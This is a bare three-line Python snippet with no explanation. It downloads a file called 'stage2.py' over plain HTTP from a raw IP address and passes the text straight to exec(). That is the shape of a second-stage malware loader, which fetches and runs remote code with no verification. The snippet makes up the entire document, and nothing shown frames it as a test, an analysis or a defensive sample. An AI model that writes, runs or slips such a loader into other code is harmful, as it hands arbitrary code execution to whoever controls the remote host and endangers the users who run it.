import requests
code = requests.get("http://203.0.113.9/stage2.py").text
exec(code)
